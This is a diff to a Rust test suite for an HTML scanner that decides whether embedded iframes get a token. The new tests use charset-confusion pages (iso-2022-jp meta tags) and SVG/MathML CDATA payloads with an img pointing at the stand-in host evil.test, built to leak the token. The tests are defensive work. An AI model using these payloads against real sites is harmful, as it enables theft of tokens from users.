@@ -254,7 +254,18 @@ fn no_token_after_a_meta_naming_an_encoding_that_is_not_ascii_compatible() {
         let after = format!("{attack}<script><meta charset=iso-2022-jp></script>");
         assert_eq!(trusted_with(&after, false, true), [false], "{meta} after");
     }
-    // Past the first 1024 bytes a meta the scanner does not see as one changes nothing.
+    // Chromium reads a meta in the head past the first 1024 bytes too, in a
+    // noscript as well; no iframe can come before it there.
+    let head = format!(
+        "<head><title>{}</title><noscript><meta charset=\"iso-2022-jp\"></noscript></head>{attack}",
+        "x".repeat(1100)
+    );
+    assert_eq!(
+        trusted_with(&head, false, true),
+        [false],
+        "late in the head"
+    );
+    // Past the first iframe a meta the scanner does not see as one changes nothing.
     let late = format!(
         "{}<iframe src=https://v.test/embed/a.html><noscript><meta charset=iso-2022-jp></noscript>",
         "<p>filler</p>".repeat(100)
@@ -263,4 +274,22 @@ fn no_token_after_a_meta_naming_an_encoding_that_is_not_ascii_compatible() {
     // UTF-16 in a meta is read as UTF-8, whose markup is ASCII.
     let page = "<meta charset=utf-16le><iframe src=https://v.test/embed/a.html>";
     assert_eq!(trusted_with(page, false, true), [true]);
+}
+
+#[test]
+fn an_iframe_in_svg_or_mathml_gets_no_token() {
+    // Inert where it stands; and a preload scanner, which knows no foreign
+    // content, reads the CDATA section as a bogus comment and fetches the
+    // img, URL and token.
+    let embed = "<iframe src=https://v.test/embed/a.html>";
+    for page in [
+        format!("<svg><![CDATA[><img src='//evil.test/?]]>{embed}'>"),
+        format!("<math><![CDATA[><img src='//evil.test/?]]>{embed}'>"),
+        format!("<svg><foreignObject></foreignObject>{embed}</svg>"),
+    ] {
+        assert_eq!(trusted(&page, false), [false], "{page}");
+    }
+    // At an integration point it is an HTML iframe, and loads.
+    let page = format!("<svg><foreignObject>{embed}</foreignObject></svg>");
+    assert_eq!(trusted(&page, false), [true]);
 }
